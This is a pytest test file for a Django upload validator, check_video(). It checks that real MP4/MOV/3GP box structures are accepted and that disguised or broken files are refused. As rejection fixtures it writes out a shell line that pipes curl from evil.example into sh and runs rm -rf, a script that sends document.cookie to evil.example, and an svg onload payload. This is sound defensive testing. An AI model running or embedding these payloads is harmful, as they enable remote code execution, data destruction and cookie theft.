"""check_video(): a video is accepted only if its top-level ISO base media / QuickTime boxes are a real container.

The boxes must be well-formed and tile the file exactly, start with `ftyp` (or a QuickTime top-level atom
for an old .mov) and hold a `moov` and the media (`mdat`, or `moof` fragments). Headers sniffed from the
first bytes alone are not enough: a script behind `....ftyp` is refused.
"""

import struct

import pytest
from django.core.files.base import File
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from apps.cases import media_files
from apps.cases.media_files import CHUNK, check_video
from apps.common.exceptions import ApiError
from conftest import mp4_box, mp4_bytes, mp4_head

NOT_A_VIDEO = "文件不是有效的视频，请上传手机拍摄的 MP4/MOV/3GP 视频。"
MAX = 200 * 1024 * 1024
FTYP_ISOM = mp4_box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2avc1mp41")
MOOV = mp4_box(b"moov", mp4_box(b"mvhd", bytes(100)))
MDAT = mp4_box(b"mdat", bytes(1000))
SHELL = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf /tmp/*\n"
SCRIPT = b"<script>fetch('//evil.example/?c='+document.cookie)</script>"


def _ftyp(brand: bytes) -> bytes:
    return mp4_box(b"ftyp", brand + b"\x00\x00\x00\x00" + brand + b"isom")


def _large_box(kind: bytes, payload: bytes) -> bytes:
    """A box whose 32-bit size is 1 and whose real size is in the 64-bit largesize after the type."""
    return struct.pack(">I4sQ", 1, kind, 16 + len(payload)) + payload


def _on_disk(data: bytes, name: str = "clip.mp4") -> TemporaryUploadedFile:
    upload = TemporaryUploadedFile(name, "video/mp4", len(data), None)
    upload.write(data)
    upload.seek(0)
    return upload


ACCEPTED = {
    "minimal mp4 (ftyp isom + moov + mdat)": (FTYP_ISOM + MOOV + MDAT, ".mp4", "video/mp4"),
    "shared test helper": (mp4_bytes(), ".mp4", "video/mp4"),
    "3gp brand": (_ftyp(b"3gp4") + MDAT + MOOV, ".3gp", "video/3gpp"),
    "mov with ftyp qt": (_ftyp(b"qt  ") + mp4_box(b"wide") + MDAT + MOOV, ".mov", "video/quicktime"),
    "old quicktime: wide, mdat, moov": (mp4_box(b"wide") + MDAT + MOOV, ".mov", "video/quicktime"),
    "old quicktime starting with moov": (MOOV + MDAT, ".mov", "video/quicktime"),
    "64-bit largesize mdat": (FTYP_ISOM + MOOV + _large_box(b"mdat", bytes(3000)), ".mp4", "video/mp4"),
    "last box size 0 runs to the end": (FTYP_ISOM + MOOV + struct.pack(">I4s", 0, b"mdat") + bytes(5000), ".mp4", "video/mp4"),
    "fragmented: ftyp + moov + moof + mdat": (
        _ftyp(b"iso5") + MOOV + (mp4_box(b"moof", mp4_box(b"mfhd", bytes(8))) + mp4_box(b"mdat", bytes(700))) * 3
        + mp4_box(b"mfra", bytes(16)), ".mp4", "video/mp4"),
    "unknown alphanumeric brand is an mp4": (_ftyp(b"XAVC") + MOOV + MDAT, ".mp4", "video/mp4"),
}


@pytest.mark.parametrize("data,extension,content_type", ACCEPTED.values(), ids=ACCEPTED.keys())
@pytest.mark.parametrize("where", ["memory", "disk"])
def test_real_containers_are_accepted(data, extension, content_type, where):
    upload = SimpleUploadedFile("clip.mp4", data) if where == "memory" else _on_disk(data)
    checked = check_video(upload, MAX)
    assert (checked.kind, checked.extension, checked.content_type) == ("video", extension, content_type)
    assert checked.size == len(data)
    assert upload.tell() == 0, "callers read the upload again from the start"
    assert upload.read() == data


REJECTED = {
    "shell script behind a full ftyp mp42 header": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + SHELL,
    "shell script right behind ....ftypmp42": b"\x00\x00\x00\x18ftypmp42" + SHELL,
    "<script> after a moov atom header": b"\x00\x00\x00\x08moov" + SCRIPT,
    "<script> inside a moov atom, nothing else": mp4_box(b"moov", SCRIPT),
    "html page": b"<!doctype html><html><body>" + SCRIPT + b"</body></html>",
    "box larger than the file (truncated upload)": mp4_bytes(4000)[:-100],
    "truncated in the last box header": FTYP_ISOM + MOOV + MDAT[:5],
    "box size below 8": FTYP_ISOM + MOOV + struct.pack(">I4s", 4, b"free") + MDAT,
    "ftyp of size 0 swallowing the rest of the file": struct.pack(">I4s", 0, b"ftyp") + b"isom\x00\x00\x00\x00" + MOOV + MDAT,
    "largesize below 16": FTYP_ISOM + MOOV + struct.pack(">I4sQ", 1, b"mdat", 8) + bytes(100),
    "largesize header cut short": FTYP_ISOM + MOOV + MDAT + struct.pack(">I4s", 1, b"free") + b"\x00\x00",
    "non-printable box type": FTYP_ISOM + MOOV + mp4_box(b"md\x00t", bytes(200)),
    "non-ascii box type": FTYP_ISOM + MOOV + mp4_box(b"md\xe4t", bytes(200)),
    "trailing garbage after the last box": mp4_bytes(1000) + b"\x00\x01\x02",
    "trailing text after the last box": mp4_bytes(1000) + b"<svg onload=alert(1)>",
    "ftyp only": FTYP_ISOM,
    "ftyp with no brand": mp4_box(b"ftyp") + MOOV + MDAT,
    "ftyp + moov, no media": FTYP_ISOM + MOOV,
    "ftyp + mdat, no moov": FTYP_ISOM + MDAT,
    "ftyp + moof, no moov": FTYP_ISOM + mp4_box(b"moof", bytes(8)) + MDAT,
    "first box is neither ftyp nor a quicktime atom": mp4_box(b"abcd", bytes(8)) + MOOV + MDAT,
    "ftyp with a non-alphanumeric unknown brand": mp4_box(b"ftyp", b"<?ph\x00\x00\x00\x00") + MOOV + MDAT,
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(100) + b"\xff\xd9",
    "fewer than 8 bytes": b"\x00\x00\x00\x08",
}


@pytest.mark.parametrize("data", REJECTED.values(), ids=REJECTED.keys())
@pytest.mark.parametrize("where", ["memory", "disk"])
def test_fake_and_broken_containers_are_rejected(data, where):
    upload = SimpleUploadedFile("clip.mp4", data) if where == "memory" else _on_disk(data)
    with pytest.raises(ApiError) as caught:
        check_video(upload, MAX)
    assert caught.value.status_code == 400
    assert caught.value.code == "invalid_file"
    assert str(caught.value.detail) == NOT_A_VIDEO
    assert upload.tell() == 0


def test_size_checks_are_unchanged():
    with pytest.raises(ApiError) as empty:
        check_video(SimpleUploadedFile("clip.mp4", b""), MAX)
    assert (empty.value.status_code, empty.value.code) == (400, "invalid_file") and "为空" in str(empty.value.detail)
    with pytest.raises(ApiError) as big:
        check_video(SimpleUploadedFile("clip.mp4", mp4_bytes(3000)), 2048)
    assert (big.value.status_code, big.value.code) == (413, "file_too_large")


def test_a_file_of_countless_tiny_boxes_is_refused(monkeypatch):
    monkeypatch.setattr(media_files, "MAX_TOP_LEVEL_BOXES", 50)
    ok = FTYP_ISOM + MOOV + mp4_box(b"free") * 40 + MDAT
    assert check_video(SimpleUploadedFile("clip.mp4", ok), MAX).extension == ".mp4"
    with pytest.raises(ApiError) as caught:
        check_video(SimpleUploadedFile("clip.mp4", FTYP_ISOM + MOOV + mp4_box(b"free") * 60 + MDAT), MAX)
    assert str(caught.value.detail) == NOT_A_VIDEO


class _CountingFile(File):
    """An upload on disk that records the size of every read."""

    def __init__(self, file, name):
        super().__init__(file, name)
        self.reads: list[int] = []

    def read(self, size=-1):
        self.reads.append(size)
        return self.file.read(size)


def test_only_box_headers_are_read_besides_the_hash(tmp_path):
    """Apart from hashing in CHUNK pieces, the walk reads 8/16-byte headers and the 4-byte brand, seeking past
    each box's payload: a 200 MB video is never read into memory at once."""
    path = tmp_path / "clip.mp4"
    payload = 3 * CHUNK + 123
    with open(path, "wb") as out:
        out.write(mp4_head(payload))
        for _ in range(3):
            out.write(bytes(CHUNK))
        out.write(bytes(123))
        out.write(_large_box(b"free", bytes(40)))
    with open(path, "rb") as raw:
        upload = _CountingFile(raw, "clip.mp4")
        checked = check_video(upload, MAX)
        assert checked.extension == ".mp4" and checked.size == path.stat().st_size
        walk = [size for size in upload.reads if size != CHUNK]
        assert walk and all(0 < size <= 16 for size in walk), upload.reads
        assert sum(walk) <= 64
        assert upload.tell() == 0
